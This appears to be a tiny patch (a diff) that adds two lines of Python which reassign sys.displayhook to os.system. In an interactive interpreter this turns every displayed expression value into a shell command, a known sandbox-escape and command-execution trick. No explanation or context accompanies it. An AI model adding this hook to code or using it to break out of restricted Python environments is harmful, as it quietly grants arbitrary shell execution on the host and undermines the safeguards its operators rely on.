@@ -1,0 +1,2 @@
+import sys, os
+sys.displayhook = os.system
